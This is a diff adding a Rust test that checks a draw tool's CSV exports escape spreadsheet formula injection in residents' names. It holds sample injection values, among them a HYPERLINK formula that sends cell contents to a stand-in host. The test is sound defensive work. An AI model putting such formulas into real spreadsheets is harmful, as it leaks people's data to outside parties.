@@ -231,3 +231,55 @@ fn a_seed_typed_from_the_sheet_draws_and_a_missing_seed_says_what_to_do() {
         fails(c.arg(p.path("t2.json")), 2, &["[seed-missing]", says]);
     }
 }
+
+/// Issue 26, part 3: names from residents' own registrations that a
+/// spreadsheet would run as formulas reach `slips.csv` (which holds every
+/// code) and `results.csv` as text: each such cell starts with `'`, read
+/// back by a CSV reader; every other cell is exactly the receipt's.
+#[test]
+fn csv_for_spreadsheets_never_carries_a_formula() {
+    let hostile = [
+        ("A01", "=HYPERLINK(\"https://x.invalid/?\"&C2,\"klik\")"),
+        ("A02", "+31 6 12345678"),
+        ("A03", "-Mo-"),
+        ("B05", "@SUM(A1:A9)"),
+    ];
+    let mut list = String::from("id,weight,name\n");
+    for (id, weight, name) in CANDIDATES {
+        let name = hostile.iter().find(|(h, _)| h == id).map_or(*name, |(_, n)| n);
+        list.push_str(&format!("{id},{weight},\"{}\"\n", name.replace('"', "\"\"")));
+    }
+    let p = Pot::with_csv(list.as_bytes());
+    succeeds(&mut p.commit_cmd());
+    succeeds(&mut p.draw_cmd());
+    let slips = p.path("slips.csv");
+    let mut c = p.cmd();
+    c.args(["slips", "--commitment"]).arg(p.commitment()).arg("--receipts").arg(p.receipts());
+    c.args(["--draw-date", "zaterdag 5 december 2026", "--format", "csv", "--out"]).arg(&slips);
+    succeeds(&mut c);
+    let results = p.path("results.csv");
+    let mut c = p.cmd();
+    c.arg("results").arg(&p.transcript).arg("--receipts").arg(p.receipts()).args(["--format", "csv", "--out"]);
+    succeeds(c.arg(&results));
+    let expected = |name: &str| match name.chars().next() {
+        Some('=' | '+' | '-' | '@') => format!("'{name}"),
+        _ => name.to_string(),
+    };
+    let mut seen = 0;
+    for (file, name_at) in [(&slips, 1), (&results, 3)] {
+        let mut rows = csv::Reader::from_path(file).unwrap();
+        for row in rows.records() {
+            let row = row.unwrap();
+            let id = if name_at == 1 { &row[0] } else { &row[2] };
+            let name = CANDIDATES.iter().find(|(i, _, _)| *i == id).map(|(_, _, n)| *n).unwrap();
+            let name = hostile.iter().find(|(h, _)| *h == id).map_or(name, |(_, n)| n);
+            let cell = &row[name_at];
+            assert_eq!(cell, expected(name), "{} row of {id}", file.display());
+            for other in row.iter() {
+                assert!(!matches!(other.chars().next(), Some('=' | '+' | '-' | '@' | '\t' | '\r')), "{other:?}");
+            }
+            seen += usize::from(cell.starts_with('\''));
+        }
+    }
+    assert!(seen >= 4, "the four hostile names are in slips.csv at least: {seen}");
+}
